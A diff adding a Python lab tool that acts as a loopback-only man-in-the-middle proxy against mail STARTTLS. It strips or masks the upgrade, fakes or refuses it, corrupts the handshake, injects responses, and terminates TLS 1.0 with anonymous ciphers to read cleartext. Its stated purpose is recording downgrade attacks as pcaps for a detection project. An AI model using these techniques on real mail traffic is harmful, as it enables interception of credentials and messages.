@@ -1,0 +1,564 @@
+#!/usr/bin/env python3
+"""tools/lab/mitm.py - a man-in-the-middle for the tlswatch capture lab.
+
+Listens on a loopback address and relays every connection to a real server
+of the lab (postfix, dovecot), tampering with the STARTTLS/STLS upgrade the
+way downgrade attackers and broken middleboxes do. It exists so that
+pcaps/downgrade-*.pcap show both sides of a real attack: what the victim
+client saw (victim <-> proxy) and what the server saw (proxy <-> server).
+Python 3 standard library only; loopback only.
+
+  mitm.py --listen ADDR:PORT --upstream ADDR:PORT --proto smtp|imap|pop3
+          --modes MODE[,MODE...] [--source ADDR] [--count N] [--ready FILE]
+
+Each accepted connection takes the next mode of --modes (the last one
+repeats), so "pass,strip" lets a first clean session through and strips the
+second. The upstream connection is made from --source (default: the listen
+address), so one capture filter `host ADDR` records both sides. With
+--count N the proxy exits after its N-th connection has ended. --ready FILE
+is written once the socket listens. SIGTERM or SIGINT stop it.
+
+Modes (RFC 3207 SMTP STARTTLS, RFC 2595 IMAP STARTTLS and POP3 STLS):
+  pass            relay unchanged (the upgrade and TLS pass through)
+  strip           remove STARTTLS/STLS from the capability lists: the EHLO
+                  reply line, IMAP CAPABILITY and [CAPABILITY ...], POP3 CAPA
+  mask            overwrite the keyword with X's of the same length, as some
+                  firewalls do: 250-STARTTLS -> 250-XXXXXXXA, IMAP STARTTLS
+                  -> XXXXXXXX, POP3 STLS -> XXXX
+  mask-command    overwrite the client's upgrade command with X's on its way
+                  to the server (STARTTLS -> XXXXXXXX, STLS -> XXXX); the
+                  server's "unknown command" goes back to the client
+  refuse          answer the client's upgrade command itself (454 4.7.0 /
+                  tag NO / -ERR), never forward it, keep relaying cleartext
+  accept-no-tls   answer the upgrade itself with the server's go-ahead text,
+                  never forward it; answer the client's ClientHello with the
+                  plaintext error a server gives to garbage; the client's
+                  TLS fails and it hangs up
+  break-tls       forward the upgrade, its go-ahead and the ClientHello;
+                  corrupt the server's first handshake message (ServerHello,
+                  type 2, becomes type 14, ServerHelloDone) so the client
+                  aborts with a plaintext unexpected_message alert, which is
+                  relayed to the server
+  inject-response after the server's go-ahead, append a plaintext line in the
+                  same segment (220 ... + "250 injected"), then relay TLS
+  preauth         (imap) rewrite the greeting "* OK" to "* PREAUTH"
+  weak-tls        answer the upgrade itself and terminate TLS with the victim
+                  using TLS 1.0 and an anonymous key exchange
+                  (TLS_ECDH_anon_WITH_AES_128_CBC_SHA: no certificate, so
+                  nobody is authenticated), as an intercepting middlebox with an
+                  old TLS stack would; relay the decrypted commands to the
+                  server in cleartext (the server never sees STARTTLS)
+
+Not handled: SMTP BDAT chunks and IMAP literals are relayed as lines (fine for
+the lab's clients); commands pipelined before the upgrade command in the same
+segment get their answers after the proxy's own answer (refuse,
+accept-no-tls, weak-tls); a refusal by the real server is relayed, but the
+proxy stops reading client lines after it; IPv6; other protocols.
+"""
+import argparse
+import asyncio
+import os
+import re
+import signal
+import socket
+import ssl
+import struct
+import sys
+import warnings
+
+MODES = ("pass", "strip", "mask", "mask-command", "refuse", "accept-no-tls", "break-tls",
+         "inject-response", "preauth", "weak-tls")
+
+# weak-tls: TLS_ECDH_anon_WITH_AES_128_CBC_SHA (0xc018), with TLS 1.0 only.
+WEAK_SUITE = "AECDH-AES128-SHA"
+
+TLS_HANDSHAKE = 0x16
+HS_SERVER_HELLO = 2
+HS_SERVER_HELLO_DONE = 14
+
+# What the proxy says when it answers in the server's place. The go-ahead and
+# the answers to garbage are the lab servers' own texts (Postfix, Dovecot), so
+# the victim cannot tell; the refusals use the codes of RFC 3207 (454) and
+# RFC 2595 (NO, -ERR).
+REFUSAL = {
+    "smtp": b"454 4.7.0 TLS not available\r\n",
+    "imap": b"%s NO [UNAVAILABLE] TLS not available\r\n",
+    "pop3": b"-ERR TLS not available\r\n",
+}
+GO_AHEAD = {
+    "smtp": b"220 2.0.0 Ready to start TLS\r\n",
+    "imap": b"%s OK Begin TLS negotiation now.\r\n",
+    "pop3": b"+OK Begin TLS negotiation now.\r\n",
+}
+GARBAGE_REPLY = {
+    "smtp": b"500 5.5.2 Error: command not recognized\r\n",
+    "imap": b"* BAD Error in IMAP command received by server.\r\n",
+    "pop3": b"-ERR Unknown command.\r\n",
+}
+INJECTED = {
+    "smtp": b"250 injected\r\n",
+    "imap": b"* OK injected\r\n",
+    "pop3": b"+OK injected\r\n",
+}
+
+IMAP_CAPA = re.compile(rb"^(\* CAPABILITY |[^ ]+ OK \[CAPABILITY |\* (OK|PREAUTH) \[CAPABILITY )",
+                       re.IGNORECASE)
+IMAP_STARTTLS_TOKEN = re.compile(rb"(?i)(?<= )STARTTLS(?=[ \]\r\n])")
+IMAP_STARTTLS_WORD = re.compile(rb"(?i) STARTTLS(?=[ \]\r\n])")
+SMTP_STARTTLS_LINE = re.compile(rb"(?i)^250([- ])STARTTLS[ \t]*\r?\n$")
+
+
+def log(msg):
+    print("mitm: %s" % msg, file=sys.stderr, flush=True)
+
+
+def split_lines(buf):
+    """Complete lines (with their LF) and the unterminated rest."""
+    lines = []
+    start = 0
+    while True:
+        nl = buf.find(b"\n", start)
+        if nl < 0:
+            return lines, buf[start:]
+        lines.append(buf[start:nl + 1])
+        start = nl + 1
+
+
+async def read_or_reset(reader):
+    """The next chunk; b"" at the end of the stream, None when it was reset."""
+    try:
+        return await reader.read(65536)
+    except ConnectionResetError:
+        return None
+
+
+def half_close(writer):
+    """Passes an orderly end (FIN) on to the other side."""
+    try:
+        if writer.can_write_eof():
+            writer.write_eof()
+    except OSError:
+        pass
+
+
+def reset(writer):
+    """Passes a reset (RST) on to the other side: close with a zero linger."""
+    sock = writer.get_extra_info("socket")
+    if sock is not None:
+        try:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        except OSError:
+            pass
+    writer.transport.abort()
+
+
+class Relay:
+    """One victim connection and its upstream connection."""
+
+    def __init__(self, args, mode, number, c_reader, c_writer):
+        self.args = args
+        self.proto = args.proto
+        self.mode = mode
+        self.number = number
+        self.cr, self.cw = c_reader, c_writer
+        self.sr = self.sw = None
+        self.c2s = "plain"      # plain: line by line; raw: bytes; swallow: dropped
+        self.s2c = "plain"
+        self.c2s_rest = b""
+        self.s2c_rest = b""
+        self.upgrade_tag = None  # the upgrade command forwarded, its reply not seen yet
+        self.in_capa = False     # POP3: inside a CAPA response
+        self.greeted = False
+        self.first_tls = b""     # break-tls: server TLS bytes held until the type byte
+        self.broken = False
+        self.tls_victim = None   # weak-tls: (SSLObject, incoming, outgoing) towards the victim
+        self.tls_pending = b""   # weak-tls: victim bytes that came with STARTTLS
+        self.tls_up = asyncio.Event()
+
+    # ------------------------------------------------------------ upgrade words
+
+    def upgrade_command(self, line):
+        """The tag (b"" for SMTP/POP3) when line is the upgrade command."""
+        words = line.split()
+        if self.proto == "smtp" and len(words) == 1 and words[0].upper() == b"STARTTLS":
+            return b""
+        if self.proto == "pop3" and len(words) == 1 and words[0].upper() == b"STLS":
+            return b""
+        if self.proto == "imap" and len(words) == 2 and words[1].upper() == b"STARTTLS":
+            return words[0]
+        return None
+
+    def masked_command(self, line, tag):
+        word = b"STLS" if self.proto == "pop3" else b"STARTTLS"
+        masked = b"X" * len(word)
+        return (tag + b" " + masked if tag else masked) + b"\r\n"
+
+    def reply_final(self, line):
+        """For the reply to the pending upgrade: None while it continues,
+        True when it accepts, False when it refuses."""
+        if self.proto == "smtp":
+            if len(line) >= 4 and line[3:4] == b"-":
+                return None
+            return line[:1] == b"2"
+        if self.proto == "pop3":
+            return line.startswith(b"+OK")
+        if line.startswith(self.upgrade_tag + b" "):
+            return line[len(self.upgrade_tag) + 1:].upper().startswith(b"OK")
+        return None
+
+    def fill(self, template, tag):
+        return template % tag if b"%s" in template else template
+
+    # ------------------------------------------------------------ server lines
+
+    def server_line(self, line, out):
+        """Appends what the victim gets for one server line to out."""
+        if self.mode == "preauth" and not self.greeted and line[:5].upper() == b"* OK ":
+            line = b"* PREAUTH " + line[5:]
+        self.greeted = True
+        if self.mode in ("strip", "mask"):
+            line = self.tamper_capability(line, out)
+            if line is None:
+                return
+        out.append(line)
+
+    def tamper_capability(self, line, out):
+        if self.proto == "smtp":
+            m = SMTP_STARTTLS_LINE.match(line)
+            if not m:
+                return line
+            if self.mode == "mask":
+                return b"250" + m.group(1) + b"XXXXXXXA\r\n"
+            if m.group(1) == b" " and out and out[-1][3:4] == b"-":
+                # STARTTLS closed the reply: the line before now closes it.
+                out[-1] = out[-1][:3] + b" " + out[-1][4:]
+            return None
+        if self.proto == "pop3":
+            if line.rstrip(b"\r\n").upper() == b"STLS" and self.in_capa:
+                return b"XXXX\r\n" if self.mode == "mask" else None
+            return line
+        if not IMAP_CAPA.match(line):
+            return line
+        if self.mode == "mask":
+            return IMAP_STARTTLS_TOKEN.sub(b"XXXXXXXX", line)
+        return IMAP_STARTTLS_WORD.sub(b"", line)
+
+    async def from_server(self, data):
+        """Handles a chunk from the server; returns bytes for the victim."""
+        if self.s2c == "raw":
+            return self.break_handshake(data) if self.mode == "break-tls" else data
+        lines, self.s2c_rest = split_lines(self.s2c_rest + data)
+        out = []
+        for i, line in enumerate(lines):
+            if self.proto == "pop3" and self.in_capa and line.rstrip(b"\r\n") == b".":
+                self.in_capa = False
+            if self.upgrade_tag is not None:
+                accepted = self.reply_final(line)
+                if accepted is not None:
+                    self.upgrade_tag = None
+                    if accepted:
+                        out.append(line)
+                        if self.mode == "inject-response":
+                            out.append(INJECTED[self.proto])
+                        # Whatever follows is TLS (or injected by the server).
+                        rest = b"".join(lines[i + 1:]) + self.s2c_rest
+                        self.s2c_rest = b""
+                        self.s2c = "raw"
+                        if rest:
+                            out.append(self.break_handshake(rest) if self.mode == "break-tls"
+                                       else rest)
+                        return b"".join(out)
+            self.server_line(line, out)
+        return b"".join(out)
+
+    def break_handshake(self, data):
+        if self.broken:
+            return data
+        self.first_tls += data
+        if len(self.first_tls) < 6:
+            return b""
+        buf = bytearray(self.first_tls)
+        self.first_tls = b""
+        self.broken = True
+        if buf[0] == TLS_HANDSHAKE and buf[5] == HS_SERVER_HELLO:
+            buf[5] = HS_SERVER_HELLO_DONE
+            log("#%d: ServerHello turned into ServerHelloDone" % self.number)
+        return bytes(buf)
+
+    # ------------------------------------------------------------ client lines
+
+    async def from_client(self, data):
+        """Handles a chunk from the victim; returns bytes for the server."""
+        if self.c2s == "raw":
+            return data
+        if self.c2s == "swallow":
+            # accept-no-tls: the ClientHello meets a server that reads text.
+            await self.to_victim(GARBAGE_REPLY[self.proto])
+            return b""
+        lines, self.c2s_rest = split_lines(self.c2s_rest + data)
+        out = []
+        for i, line in enumerate(lines):
+            words = line.split()
+            if self.proto == "pop3" and words and words[0].upper() == b"CAPA":
+                self.in_capa = True
+            tag = self.upgrade_command(line)
+            if tag is None:
+                out.append(line)
+                continue
+            rest = b"".join(lines[i + 1:]) + self.c2s_rest
+            self.c2s_rest = b""
+            if self.mode == "refuse":
+                log("#%d: refusing the upgrade" % self.number)
+                await self.to_victim(self.fill(REFUSAL[self.proto], tag))
+                self.c2s_rest = rest
+                rest_out = await self.from_client(b"") if rest else b""
+                return b"".join(out) + rest_out
+            if self.mode == "accept-no-tls":
+                log("#%d: accepting the upgrade, no TLS follows" % self.number)
+                await self.to_victim(self.fill(GO_AHEAD[self.proto], tag))
+                self.c2s = "swallow"
+                if rest:
+                    await self.to_victim(GARBAGE_REPLY[self.proto])
+                return b"".join(out)
+            if self.mode == "weak-tls":
+                log("#%d: terminating TLS with the victim (TLS 1.0, %s)" % (self.number,
+                                                                          WEAK_SUITE))
+                await self.to_victim(self.fill(GO_AHEAD[self.proto], tag))
+                self.c2s = "tls"
+                self.tls_pending = rest
+                return b"".join(out)
+            if self.mode == "mask-command":
+                log("#%d: masking the client's upgrade command" % self.number)
+                out.append(self.masked_command(line, tag))
+                self.c2s_rest = rest
+                if rest:
+                    out.append(await self.from_client(b""))
+                return b"".join(out)
+            # The upgrade goes through: everything after it is relayed as is.
+            self.upgrade_tag = tag
+            out.append(line)
+            self.c2s = "raw"
+            out.append(rest)
+            return b"".join(out)
+        return b"".join(out)
+
+    async def to_victim(self, data):
+        if data:
+            self.cw.write(data)
+            await self.cw.drain()
+
+    # ------------------------------------------------------------ weak TLS
+
+    async def victim_tls_pump(self):
+        """weak-tls: the TLS handshake with the victim, driven through an
+        SSLObject over the TCP stream; False when the victim went away."""
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore", DeprecationWarning)
+            ctx.minimum_version = ssl.TLSVersion.TLSv1
+            ctx.maximum_version = ssl.TLSVersion.TLSv1
+        ctx.set_ciphers(WEAK_SUITE + ":@SECLEVEL=0")
+        inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
+        obj = ctx.wrap_bio(inc, outg, server_side=True)
+        self.tls_victim = (obj, inc, outg)
+        if self.tls_pending:
+            inc.write(self.tls_pending)
+        while True:
+            try:
+                obj.do_handshake()
+                break
+            except ssl.SSLWantReadError:
+                await self.flush_victim_tls()
+                data = await read_or_reset(self.cr)
+                if not data:
+                    return False
+                inc.write(data)
+        await self.flush_victim_tls()
+        log("#%d: victim TLS up: %s %s" % (self.number, obj.version(), obj.cipher()[0]))
+        return True
+
+    async def flush_victim_tls(self):
+        _, _, outg = self.tls_victim
+        pending = outg.read()
+        if pending:
+            self.cw.write(pending)
+            await self.cw.drain()
+
+    async def victim_tls_read(self):
+        obj, inc, _ = self.tls_victim
+        while True:
+            try:
+                return obj.read(65536)
+            except ssl.SSLWantReadError:
+                data = await read_or_reset(self.cr)
+                if not data:
+                    return b""
+                inc.write(data)
+            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
+                return b""
+
+    async def victim_tls_write(self, data):
+        obj, _, _ = self.tls_victim
+        obj.write(data)
+        await self.flush_victim_tls()
+
+    # ------------------------------------------------------------ pumps
+
+    async def pump_c2s(self):
+        while True:
+            if self.c2s == "tls":
+                await self.pump_c2s_tls()
+                break
+            data = await read_or_reset(self.cr)
+            if data is None:
+                reset(self.sw)
+                return
+            if not data:
+                if self.c2s_rest and self.c2s == "plain":
+                    self.sw.write(self.c2s_rest)
+                break
+            out = await self.from_client(data)
+            if out:
+                self.sw.write(out)
+                await self.sw.drain()
+        half_close(self.sw)
+
+    async def pump_c2s_tls(self):
+        if not await self.victim_tls_pump():
+            return
+        self.tls_up.set()
+        while True:
+            data = await self.victim_tls_read()
+            if not data:
+                return
+            self.sw.write(data)
+            await self.sw.drain()
+
+    async def pump_s2c(self):
+        while True:
+            data = await read_or_reset(self.sr)
+            if data is None:
+                reset(self.cw)
+                return
+            if not data:
+                if self.s2c_rest:
+                    await self.victim_write(self.s2c_rest)
+                break
+            out = await self.from_server(data)
+            if out:
+                await self.victim_write(out)
+        if self.tls_victim is not None:
+            try:
+                self.tls_victim[0].unwrap()
+            except ssl.SSLError:
+                pass
+            await self.flush_victim_tls()
+        half_close(self.cw)
+
+    async def victim_write(self, data):
+        if self.c2s == "tls":
+            await self.tls_up.wait()
+            await self.victim_tls_write(data)
+        else:
+            await self.to_victim(data)
+
+    async def run(self):
+        host, port = self.args.upstream
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        sock.bind((self.args.source, 0))
+        sock.setblocking(False)
+        await asyncio.get_running_loop().sock_connect(sock, (host, port))
+        self.sr, self.sw = await asyncio.open_connection(sock=sock)
+        peer = self.cw.get_extra_info("peername")
+        log("#%d: %s:%d -> %s:%d, mode %s" % (self.number, peer[0], peer[1], host, port,
+                                              self.mode))
+        tasks = [asyncio.create_task(self.pump_c2s()), asyncio.create_task(self.pump_s2c())]
+        done, pending = await asyncio.wait(tasks, timeout=self.args.timeout)
+        for t in pending:
+            log("#%d: still open after %.0f s, closing" % (self.number, self.args.timeout))
+            t.cancel()
+        for t in done:
+            if t.exception() is not None:
+                log("#%d: %r" % (self.number, t.exception()))
+        self.sw.close()
+        self.cw.close()
+        log("#%d: closed" % self.number)
+
+
+class Proxy:
+    def __init__(self, args):
+        self.args = args
+        self.accepted = 0
+        self.finished = 0
+        self.done = asyncio.Event()
+
+    async def handle(self, reader, writer):
+        sock = writer.get_extra_info("socket")
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        number = self.accepted
+        self.accepted += 1
+        mode = self.args.modes[min(number, len(self.args.modes) - 1)]
+        try:
+            await Relay(self.args, mode, number + 1, reader, writer).run()
+        except OSError as err:
+            log("#%d: %r" % (number + 1, err))
+            writer.close()
+        self.finished += 1
+        if self.args.count and self.finished >= self.args.count:
+            self.done.set()
+
+    async def serve(self):
+        host, port = self.args.listen
+        server = await asyncio.start_server(self.handle, host, port, reuse_address=True)
+        loop = asyncio.get_running_loop()
+        for sig in (signal.SIGTERM, signal.SIGINT):
+            loop.add_signal_handler(sig, self.done.set)
+        log("listening on %s:%d (%s, modes %s)" % (host, port, self.args.proto,
+                                                   ",".join(self.args.modes)))
+        if self.args.ready:
+            with open(self.args.ready + ".tmp", "w") as f:
+                f.write("%d\n" % os.getpid())
+            os.rename(self.args.ready + ".tmp", self.args.ready)
+        await self.done.wait()
+        server.close()
+        await server.wait_closed()
+        log("stopped after %d connection(s)" % self.finished)
+
+
+def host_port(text):
+    host, _, port = text.rpartition(":")
+    if not host or not port.isdigit():
+        raise argparse.ArgumentTypeError("ADDR:PORT expected: %s" % text)
+    if not host.startswith("127."):
+        raise argparse.ArgumentTypeError("loopback (127.0.0.0/8) only: %s" % text)
+    return host, int(port)
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--listen", type=host_port, required=True)
+    parser.add_argument("--upstream", type=host_port, required=True)
+    parser.add_argument("--proto", choices=["smtp", "imap", "pop3"], required=True)
+    parser.add_argument("--modes", required=True)
+    parser.add_argument("--source", help="upstream source address (default: listen address)")
+    parser.add_argument("--count", type=int, default=0)
+    parser.add_argument("--ready")
+    parser.add_argument("--timeout", type=float, default=60.0,
+                        help="seconds a connection may last")
+    args = parser.parse_args()
+    args.modes = args.modes.split(",")
+    for m in args.modes:
+        if m not in MODES:
+            parser.error("unknown mode %s (one of %s)" % (m, ", ".join(MODES)))
+    if "preauth" in args.modes and args.proto != "imap":
+        parser.error("preauth is an IMAP mode")
+    args.source = args.source or args.listen[0]
+    if not args.source.startswith("127."):
+        parser.error("loopback (127.0.0.0/8) only: %s" % args.source)
+    asyncio.run(Proxy(args).serve())
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
